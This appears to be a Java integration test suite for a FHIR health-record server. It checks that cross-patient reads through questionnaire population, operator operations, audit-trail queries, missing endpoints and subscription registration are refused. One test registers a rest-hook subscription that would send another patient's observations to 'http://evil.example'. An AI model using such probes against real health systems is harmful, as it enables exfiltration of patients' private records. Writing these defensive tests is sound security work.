package health.throughline.record.attack;

import static health.throughline.record.attack.Ward.ADMINISTRATOR;
import static health.throughline.record.attack.Ward.ADMISSIONS;
import static health.throughline.record.attack.Ward.ANN;
import static health.throughline.record.attack.Ward.BOB;
import static health.throughline.record.attack.Ward.HOSPITAL;
import static health.throughline.record.attack.Ward.LEAD;
import static health.throughline.record.attack.Ward.PEER;
import static health.throughline.record.attack.Ward.RELATIVE;
import static health.throughline.record.attack.Ward.THERAPIST;
import static health.throughline.record.attack.Ward.WARD;
import static health.throughline.record.attack.Ward.json;
import static org.assertj.core.api.Assertions.assertThat;

import health.throughline.record.Callers;
import health.throughline.record.World;
import health.throughline.record.World.Answer;
import health.throughline.record.World.Ask;
import health.throughline.record.access.Caller;
import health.throughline.record.access.Permission.Level;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Groups B7, B12, B13 and B18 of the catalogue, as far as they are about forms, operators, the trail, and what is not there:
 * bulk export, the delivery of subscriptions, tenants, $summary, $docref and $diff do not exist here.
 */
class SurfaceAttacksIT {

    @Test
    void b07_a_form_of_the_caller_s_own_reads_what_the_caller_reads() {
        String form = "{'resourceType':'Questionnaire','status':'active','extension':[{'url':"
                + "'http://hl7.org/fhir/StructureDefinition/variable','valueExpression':{'name':'o','language':"
                + "'application/x-fhir-query','expression':'Observation?patient=Patient/b'}}],'item':[{'linkId':'1',"
                + "'type':'integer','extension':[{'url':"
                + "'http://hl7.org/fhir/uv/sdc/StructureDefinition/sdc-questionnaire-initialExpression',"
                + "'valueExpression':{'language':'text/fhirpath','expression':'%o.entry.count()'}},{'url':"
                + "'http://hl7.org/fhir/StructureDefinition/variable','valueExpression':{'name':'o','language':"
                + "'application/x-fhir-query','expression':'Observation?patient=Patient/b'}}]}]}";
        String asked = json("{'resourceType':'Parameters','parameter':[{'name':'subject','valueReference':{'reference':"
                + "'Patient/a'}},{'name':'questionnaire','resource':" + form + "}]}");
        Answer answer = WARD.as(ANN, Ask.post("Questionnaire/$populate", asked));
        assertThat(answer.status()).as(answer.body()).isIn(200, 400);
        Ward.silent(answer, "\"valueInteger\":1", "Observation/ob");
        String context = asked.replace(
                "{\"name\":\"subject\"",
                json("{'name':'context','part':[{'name':'name','valueString':'patient'},{'name':'content',"
                        + "'valueReference':{'reference':'Patient/b'}}]},{'name':'subject'"));
        assertThat(WARD.as(ANN, Ask.post("Questionnaire/$populate", context)).status())
                .isEqualTo(404);
    }

    @Test
    void b07_operator_operations_are_for_administrators() {
        for (Caller caller : List.of(ANN, THERAPIST, LEAD, ADMISSIONS, RELATIVE, HOSPITAL)) {
            for (String url : List.of("$reindex?dryRun=true", "Observation/$reindex?dryRun=true")) {
                assertThat(WARD.as(caller, Ask.post(url, "")).status()).isEqualTo(403);
            }
            assertThat(WARD.status(caller, "$reindex-progress")).isEqualTo(403);
        }
        assertThat(WARD.as(ADMINISTRATOR, Ask.post("Goal/$reindex?dryRun=true", ""))
                        .status())
                .isEqualTo(200);
        assertThat(WARD.as(
                                ANN,
                                Ask.post(
                                        "Questionnaire/$import-instrument?instrument=isi&items=x&licence=1234567890",
                                        ""))
                        .status())
                .isIn(400, 403);
    }

    @Test
    void b07_closure_tables_are_their_owners() {
        String start = json("{'resourceType':'Parameters','parameter':[{'name':'name','valueString':'t'}]}");
        String since = json("{'resourceType':'Parameters','parameter':[{'name':'name','valueString':'t'},{'name':"
                + "'version','valueString':'0'}]}");
        assertThat(WARD.as(ANN, Ask.post("$closure", start)).status()).isEqualTo(200);
        assertThat(WARD.as(BOB, Ask.post("$closure", since)).status()).isEqualTo(404);
        assertThat(WARD.as(ANN, Ask.post("$closure", since)).status()).isEqualTo(200);
    }

    @Test
    void b07_the_audit_trail_is_kept_to_the_patient_in_context() {
        Caller lead = new Caller(
                "lead of a",
                LEAD.client(),
                LEAD.user(),
                LEAD.roles(),
                ANN.patient(),
                List.of(Callers.all(Level.PATIENT, Callers.EVERYTHING)));
        assertThat(WARD.status(lead, "AuditEvent")).isEqualTo(403);
        assertThat(WARD.status(lead, "AuditEvent?patient=Patient/b")).isEqualTo(403);
        assertThat(WARD.status(lead, "AuditEvent?patient=Patient/a")).isEqualTo(200);
        assertThat(WARD.status(LEAD, "AuditEvent")).isEqualTo(200);
        assertThat(WARD.status(ANN, "AuditEvent?patient=Patient/b")).isEqualTo(403);
        assertThat(WARD.status(ANN, "AuditEvent?patient=Patient/a,Patient/b")).isEqualTo(403);
        assertThat(WARD.status(ANN, "Patient/b/AuditEvent")).isEqualTo(403);
        assertThat(WARD.status(THERAPIST, "AuditEvent?patient=Patient/a")).isEqualTo(403);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Patient/b/$summary",
                "Patient/a/$summary",
                "DocumentReference/$docref?patient=Patient/b",
                "Observation/ob/$diff?from=1",
                "Patient/$match",
                "Patient/$everything",
                "Composition/x/$document",
                "$export",
                "Patient/$export",
                "Group/g/$export",
                "$export?_typeFilter=Patient%3F_include%3D*",
                "$export-poll-status?_jobId=1",
                "bulk/1",
                "bulk/1/Patient.ndjson",
                "$events",
                "Subscription/x/$status",
                "Subscription/x/$events",
                "Subscription/$get-ws-binding-token",
                "tenant/Patient/b",
                "other/fhir/Patient/b",
                "DEFAULT/Patient/b",
                "Binary/bb/signed?expires=1&signature=x"
            })
    void b12_b13_b18_surfaces_that_are_not_there_are_not_there(String url) {
        for (Caller caller : List.of(ANN, THERAPIST, LEAD)) {
            assertThat(WARD.status(caller, url)).as(url).isIn(400, 404, 405);
            assertThat(WARD.as(caller, new Ask("POST", url, Map.of(), "")).status())
                    .as(url)
                    .isIn(400, 404, 405);
            assertThat(WARD.delete(caller, url).status()).as(url).isIn(400, 404, 405);
        }
    }

    @Test
    void b13_nobody_who_is_restricted_registers_a_subscription() {
        String content = "'status':'requested','reason':'x','criteria':'Observation?patient=Patient/b','channel':"
                + "{'type':'rest-hook','endpoint':'http://evil.example','payload':'application/fhir+json'}";
        for (Caller caller : List.of(ANN, THERAPIST, RELATIVE, HOSPITAL, PEER, ADMISSIONS)) {
            assertThat(WARD.post(caller, "Subscription", content).status()).isEqualTo(403);
        }
        assertThat(World.keysIn(WARD.get(ANN, "Subscription").body())).isEmpty();
    }
}
